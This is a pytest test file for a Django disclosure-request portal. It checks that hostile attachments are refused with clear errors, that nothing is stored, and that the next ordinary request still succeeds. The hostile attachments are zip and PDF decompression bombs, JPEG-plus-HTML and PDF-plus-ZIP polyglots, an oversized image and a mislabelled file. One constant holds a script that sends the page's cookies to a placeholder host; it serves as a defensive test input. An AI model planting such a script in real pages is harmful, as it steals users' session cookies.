"""Hostile attachments to a written request (R-SHR-3; the warrant of R-SHR-5), through the partner's page and the
API (issue #9, item 5): the requester sees what is wrong, nothing is stored (no request, no attachment row, no file),
and the next ordinary request goes through in the same process."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.urls import reverse
from django.utils.html import escape

from apps.agreements.documents import (
    DOCUMENT_ARCHIVE,
    DOCUMENT_IMAGE_TOO_LARGE,
    DOCUMENT_PDF_BOMB,
    DOCUMENT_POLYGLOT_ARCHIVE,
    DOCUMENT_POLYGLOT_TRAILING,
    DOCUMENT_WRONG_EXTENSION,
    PDF_STREAM_MAX_INFLATED,
)
from apps.disclosures.models import DisclosureAttachment, DisclosureRequest
from tests.agreements import bad_files
from tests.agreements.helpers import image_bytes, pdf_bytes, upload
from tests.disclosures.test_api import _body
from tests.disclosures.test_submit import _post_data

pytestmark = pytest.mark.django_db

ZIP_WORDS = "a ZIP archive (Word and other Office files are ZIP archives too)"
ANY = "a PDF, a JPEG image or a PNG image"
JPEG = image_bytes("JPEG", size=(64, 48))
HTML = b"<html><script>document.location='https://example.invalid/'+document.cookie</script></html>"


def _cases() -> dict[str, tuple[bytes, str, str, str]]:
    """id → (content, file name, code, message the court-order field shows)."""
    field = "court order"
    zip_bomb = bad_files.zip_bomb()
    return {
        "zip-bomb": (zip_bomb, "evidence.zip", "document_archive",
                     DOCUMENT_ARCHIVE.format(field=field, archive=ZIP_WORDS, allowed=ANY)),
        "zip-bomb-named-pdf": (zip_bomb, "court-order.pdf", "document_archive",
                               DOCUMENT_ARCHIVE.format(field=field, archive=ZIP_WORDS, allowed=ANY)),
        "pdf-flate-bomb": (bad_files.pdf_flate_bomb(), "court-order.pdf", "document_bomb",
                           DOCUMENT_PDF_BOMB.format(field=field, limit_mb=PDF_STREAM_MAX_INFLATED // 1_048_576)),
        "jpeg+html": (JPEG + HTML, "order.jpg", "document_polyglot",
                      DOCUMENT_POLYGLOT_TRAILING.format(field=field, extra=len(HTML), kind="JPEG image")),
        "pdf+zip": (pdf_bytes() + bad_files.small_zip(), "order.pdf", "document_polyglot",
                    DOCUMENT_POLYGLOT_ARCHIVE.format(field=field, kind="PDF")),
        "huge-jpeg": (bad_files.jpeg_claiming(60000, 60000), "order.jpg", "document_too_many_pixels",
                      DOCUMENT_IMAGE_TOO_LARGE.format(field=field, width=60000, height=60000, limit=60)),
        "png-named-pdf": (image_bytes("PNG"), "order.pdf", "document_wrong_extension",
                          DOCUMENT_WRONG_EXTENSION.format(field=field, name="order.pdf", actual="a PNG image",
                                                          extension="png")),
    }


CASES = _cases()


def _nothing_stored(settings):
    assert not DisclosureRequest.objects.exists() and not DisclosureAttachment.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or not [path for path in media.rglob("*") if path.is_file()]


def _content_type(name: str) -> str:
    return {"pdf": "application/pdf", "jpg": "image/jpeg", "png": "image/png"}.get(name.rsplit(".", 1)[-1],
                                                                                    "application/zip")


@pytest.mark.parametrize("case", list(CASES))
def test_the_request_page_refuses_the_file_and_says_why(client, partner, settings, case):
    content, name, _code, message = CASES[case]
    client.force_login(partner)
    response = client.post(reverse("disclosures:create"),
                           _post_data(court_order=upload(content, name, _content_type(name))))
    assert response.status_code == 200
    page = response.content.decode()
    assert escape(message) in page
    _nothing_stored(settings)

    # the same process takes the next, ordinary request at once
    response = client.post(reverse("disclosures:create"), _post_data(court_order=upload(pdf_bytes(), "order.pdf")))
    assert response.status_code == 302
    assert DisclosureRequest.objects.get().attachments.get().content_type == "application/pdf"


@pytest.mark.parametrize("case", list(CASES))
def test_the_api_refuses_the_file_with_the_portal_error_body(api_client, partner, settings, case):
    content, name, code, message = CASES[case]
    api_client.force_authenticate(partner)
    response = api_client.post(reverse("api:disclosure-requests"),
                               _body(plates="7ABC123", court_order=upload(content, name, _content_type(name))),
                               format="multipart")
    assert response.status_code == 400, response.content[:500]
    error = response.json()["error"]
    assert (error["code"], error["message"]) == (code, message)
    _nothing_stored(settings)

    response = api_client.post(reverse("api:disclosure-requests"),
                               _body(plates="7ABC123", court_order=upload(JPEG, "order.jpg", "image/jpeg")),
                               format="multipart")
    assert response.status_code == 201, response.json()


def test_a_hostile_answer_to_a_request_for_information_stores_nothing(api_client, partner, custodian, submit):
    from apps.disclosures.services.decisions import disclosure_request_request_info

    item = submit(partner)
    disclosure_request_request_info(actor=custodian, disclosure_request=item, message="Attach the warrant, please.")
    api_client.force_authenticate(partner)
    response = api_client.post(reverse("api:disclosure-request-respond", args=[item.pk]),
                               {"message": "Here it is.", "document": upload(bad_files.zip_bomb(), "warrant.pdf")},
                               format="multipart")
    assert response.status_code == 400
    assert response.json()["error"]["message"] == DOCUMENT_ARCHIVE.format(field="document sent with more information",
                                                                           archive=ZIP_WORDS, allowed=ANY)
    item.refresh_from_db()
    assert item.status == "info_requested" and not item.attachments.exists() and not item.info_responses.exists()
